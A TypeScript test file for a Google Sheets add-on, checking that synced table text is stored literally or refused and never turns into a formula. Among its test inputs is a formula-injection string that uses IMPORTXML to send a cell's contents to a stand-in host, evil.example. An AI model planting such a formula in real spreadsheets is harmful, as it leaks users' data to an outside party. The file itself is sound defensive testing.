import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { areaOf } from '../google/workbook/area.ts';
import type { Tab } from '../google/workbook/tab.ts';
import { chosen, type Unconfirmed } from '../google/workbook/unconfirmed.ts';
import { AddonLab } from './support/addon-lab.ts';

/**
 * Text from the table through the built bundle, with every open question about Sheets answered either way: each text is
 * stored exactly, or its cell is as it was and the refusal is told. None is a formula, not for a moment.
 */

const TEXTS = [
  ...['007', '1-2', 'TRUE', 'wahr', '1e5', '12:30', '$100.15', '50%', '1/2/2020', '2020-01-01', '١٢٣'],
  ...['=1+1', '+1 555 0100', '-A1', '@x', '=IMPORTXML("https://evil.example/?"&A1,"//a")', ' =1+1', '\t=1+1', '\r=1+1'],
  ...["'quoted", "'", "''twice''", "'=1+1", "it's"],
  ...[' leading', 'trailing ', ' ', '  ', '\ttab', 'two\nlines', 'old\rmac', 'dos\r\nlines', '\n'],
  ...['emoji 👩‍👩‍👧', 'שלום', 'e\u0301', '\u00a0', '\u200b', '{=1}', '"=1"', 'https://example.com/?a=1'],
  '='.padEnd(50_000, 'x'),
  'x'.repeat(50_000),
];

let lab: AddonLab;
let tab: Tab;

beforeAll(async () => {
  lab = await AddonLab.build();
  const rows = [['id', 'text'], ...TEXTS.map((_, index) => [index + 1, 'old'])];
  await lab.openLinked({ table: 'notes', rows, kinds: { id: 'integer' } });
  ({ tab } = lab);
});
afterAll(() => lab.close());

/** Formulas that stood in the tab at any moment, however short. */
function watchFormulas(): { seen: Set<string>; stop: () => void } {
  const { workbook } = tab;
  const seen = new Set<string>();
  const changed = workbook.formulaChanged.bind(workbook);
  workbook.formulaChanged = (of) => {
    for (let row = 2; row <= TEXTS.length + 1; row++) seen.add(tab.formula(row, 2));
    changed(of);
  };
  return { seen, stop: () => (workbook.formulaChanged = changed) };
}

async function write(answers: Partial<Unconfirmed>): Promise<void> {
  const { workbook } = tab;
  workbook.unconfirmed = { ...chosen };
  const column = areaOf(2, 2, TEXTS.length, 1);
  tab.setNumberFormat(column, null);
  tab.setInputs(
    2,
    2,
    TEXTS.map(() => ['old']),
  );
  workbook.unconfirmed = { ...chosen, ...answers };
  const watch = watchFormulas();
  const outcomes = await lab.syncValues(TEXTS.map((text, index) => [index + 1, 'old', text] as const));
  watch.stop();
  TEXTS.forEach((text, index) => {
    const outcome = outcomes[index]!;
    const row = index + 2;
    expect([text, tab.formula(row, 2)]).toEqual([text, '']);
    if (outcome.outcome === 'applied') expect([outcome.readback, tab.value(row, 2)]).toEqual([text, text]);
    else {
      expect([text, outcome.outcome, tab.value(row, 2), tab.numberFormat(row, 2)]).toEqual([
        text,
        'invalid',
        'old',
        '',
      ]);
      expect(outcome.reason).toMatch(/Sheets would change this text/);
    }
  });
  // The only formula ever tried is one that reads nothing.
  expect([...watch.seen].filter((formula) => formula !== '' && formula !== '=0')).toEqual([]);
}

/** Chips and tables are tried in addon-cells.test.ts, addon-typed-tables.test.ts and sheets-cells.test.ts. */
const elsewhere: (keyof Unconfirmed)[] = ['chipsReadAsPlaceholders', 'typedColumnsRefuse', 'tablesGrow'];
const questions = (Object.keys(chosen) as (keyof Unconfirmed)[]).filter((one) => !elsewhere.includes(one));
const aboutText: (keyof Unconfirmed)[] = [
  'plainTextStopsFormulas',
  'plainTextDropsApostrophe',
  'apostropheMeansText',
  'richTextIsLiteral',
];

describe('[I17] text of the table in the sheet', () => {
  it('is stored exactly, all of it, as Sheets is expected to behave', async () => {
    await write({});
    expect(TEXTS.map((_, index) => tab.value(index + 2, 2))).toEqual(TEXTS);
  });

  it.each(questions)('is stored exactly or held if the answer to %s is the other one', (question) =>
    write({ [question]: false }),
  );

  it('is stored exactly or held whichever of the four ways to write text fail', async () => {
    for (let combination = 0; combination < 16; combination++) {
      await write(Object.fromEntries(aboutText.map((question, bit) => [question, (combination & (1 << bit)) === 0])));
    }
  });
});
